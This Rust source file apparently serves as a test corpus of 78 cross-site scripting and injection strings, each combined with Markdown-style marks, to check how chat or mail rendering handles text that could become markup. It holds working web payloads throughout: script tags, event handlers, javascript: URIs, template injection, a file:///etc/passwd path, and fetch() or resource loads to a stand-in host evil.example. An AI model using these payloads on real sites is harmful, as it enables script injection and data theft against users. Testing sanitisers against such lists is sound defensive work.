//! A corpus of texts that would run, load or break something where a text becomes markup.

/// What each of them would do, if it did anything.
const DO: &str = "window.pwned=1;top.pwned=1;fetch('http://evil.example/')";

/// Alone.
const TEXTS: [&str; 78] = [
    "<script>{do}</script>",
    "</script><script>{do}</script>",
    "<ScRiPt>{do}</sCrIpT>",
    "<script src=http://evil.example/a.js></script>",
    "<script src=//evil.example/a.js></script>",
    "<<script>{do}//<</script>",
    "<scr<script>ipt>{do}</scr</script>ipt>",
    "<script type=module>import 'http://evil.example/m.js'</script>",
    "<img src=x onerror={do}>",
    "<img src=\"http://evil.example/a.png\">",
    "<img/src=x/onerror={do}>",
    "<img src=x onerror\n={do}>",
    "<img src=`x` onerror={do}>",
    "<img srcset=http://evil.example/s.png>",
    "\"><img src=x onerror={do}>",
    "'><img src=x onerror={do}>",
    "--><img src=x onerror={do}>",
    "]]><img src=x onerror={do}>",
    "</title><img src=x onerror={do}>",
    "</textarea><img src=x onerror={do}>",
    "</style><img src=x onerror={do}>",
    "<svg onload={do}>",
    "<svg/onload={do}>",
    "<svg><script>{do}</script></svg>",
    "<svg><animate onbegin={do} attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='{do}'/>#x\"></use></svg>",
    "<svg><foreignObject><img src=x onerror={do}></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={do}>",
    "<iframe src=http://evil.example/f></iframe>",
    "<iframe src=\"javascript:{do}\"></iframe>",
    "<iframe srcdoc=\"<script>{do}</script>\"></iframe>",
    "<object data=http://evil.example/o></object>",
    "<embed src=http://evil.example/e>",
    "<link rel=stylesheet href=http://evil.example/c.css>",
    "<link rel=prefetch href=http://evil.example/p>",
    "<style>@import 'http://evil.example/i.css';</style>",
    "<div style=\"background:url(http://evil.example/b.png)\">x</div>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example/r\">",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/><input name=a autofocus onfocus={do}></form>",
    "<input autofocus onfocus={do}>",
    "<select autofocus onfocus={do}>",
    "<textarea autofocus onfocus={do}>",
    "<details open ontoggle={do}>",
    "<video src=http://evil.example/v onerror={do}></video>",
    "<audio src=http://evil.example/v onerror={do}></audio>",
    "<video><source onerror={do}></video>",
    "<body onload={do}>",
    "<marquee onstart={do}>",
    "<a href=\"javascript:{do}\">x</a>",
    "<a href=http://evil.example/ ping=http://evil.example/ping>x</a>",
    "<xss onpointerrawupdate={do} style=position:fixed;inset:0>",
    "<template><script>{do}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={do}>\">",
    "<button popovertarget=x>x</button><xss onbeforetoggle={do} popover id=x>",
    "javascript:{do}",
    "JaVaScRiPt:{do}",
    " javascript:{do}",
    "java\nscript:{do}",
    "java\tscript:{do}",
    "\u{1}javascript:{do}",
    "javascript&colon;{do}",
    "&#106;avascript:{do}",
    "data:text/html,<script>{do}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "blob:http://evil.example/1",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "http://evil.example/\"onmouseover=\"{do}",
    "http://evil.example/'onmouseover='{do}",
    "http://a:b@evil.example/<script>{do}</script>",
    "{{constructor.constructor('{do}')()}}",
    "${{do}}",
    "&lt;script&gt;{do}&lt;/script&gt;",
    "__proto__",
    "\u{202e}<script>{do}</script>\u{2028}{do}",
];

/// Around each of them: what chats and mails understand as marks.
const MARKS: [(&str, &str); 7] =
    [("", ""), ("**", "**"), ("[x](", ")"), ("![x](", ")"), ("> ", ""), ("```\n", "\n```"), ("<", ">")];

/// One by one, without marks.
pub fn texts() -> Vec<String> {
    TEXTS.iter().map(|text| text.replace("{do}", DO)).collect()
}

/// Every text within every kind of marks.
pub fn messages() -> Vec<String> {
    MARKS
        .iter()
        .flat_map(|(before, after)| texts().into_iter().map(move |text| format!("{before}{text}{after}")))
        .collect()
}
